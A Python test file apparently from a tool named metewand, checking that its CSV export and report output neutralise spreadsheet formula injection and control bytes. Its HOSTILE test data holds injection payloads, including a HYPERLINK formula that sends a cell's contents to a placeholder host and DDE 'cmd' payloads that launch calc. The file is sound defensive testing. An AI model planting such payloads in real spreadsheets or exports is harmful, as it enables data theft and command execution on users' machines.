"""Issue 12 item 5: every CSV metewand writes neutralises formula triggers and control bytes,
read back with the csv module from the real CLI (``export --format csv`` and ``report``)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from metewand.compare.csv_safe import safe_cell
from metewand.runtime.store import RunStore

HOSTILE = {
    "equals": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "nul": "ok\x00=1+1",
    "bell": "a\x07b",
}


def _hostile_run(tmp_path: Path) -> Path:
    with RunStore.create(tmp_path, "r1", {"planned_keys": ["t/0"]}) as store:
        store.append(
            {
                "key": "t/0",
                "status": "fail",
                "attempt": 0,
                "answer": HOSTILE,
                "cpu_ms": -3.5,
                "delta": -7,
                "text_number": "-12.5e3",
                "=evil_column": "x",
            }
        )
        store.set_state("complete")
    return tmp_path / "r1"


def _metewand(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "metewand", *args], capture_output=True, text=True, timeout=120
    )


def _check_table(text: str) -> None:
    table = list(csv.reader(io.StringIO(text)))
    assert len(table) == 2  # control bytes inside cells never split a record
    for cell in [*table[0], *table[1]]:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F for ch in cell), cell
        assert not cell.startswith("-") or cell in ("-3.5", "-7", "-12.5e3"), cell
    row = dict(zip(table[0], table[1], strict=True))
    assert row["answer.equals"] == "'" + HOSTILE["equals"]
    assert row["answer.minus"] == "'" + HOSTILE["minus"]
    assert row["answer.tab"] == "'\\x09=1+1"
    assert row["answer.nul"] == "ok\\x00=1+1"
    assert row["'=evil_column"] == "x"
    # numbers stay numbers
    assert (row["cpu_ms"], row["delta"], row["text_number"]) == ("-3.5", "-7", "-12.5e3")


def test_export_csv_neutralises_formulas(tmp_path: Path) -> None:
    run_dir = _hostile_run(tmp_path)
    done = _metewand("export", str(run_dir), "--format", "csv")
    assert done.returncode == 0, done.stderr
    _check_table(done.stdout)


def test_report_results_csv_neutralises_formulas(tmp_path: Path) -> None:
    run_dir = _hostile_run(tmp_path)
    out = tmp_path / "out"
    done = _metewand("report", str(run_dir), "--format", "csv", "--out", str(out))
    assert done.returncode == 0, done.stderr
    _check_table((out / "results.csv").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (0, "0"),
        (-1.25, "-1.25"),
        ("-1.25", "-1.25"),
        ("-", "'-"),
        ("+", "'+"),
        ("@", "'@"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("\x1b[31mred", "\\x1b[31mred"),
    ],
)
def test_safe_cell_table(value: object, cell: str) -> None:
    assert safe_cell(value) == cell
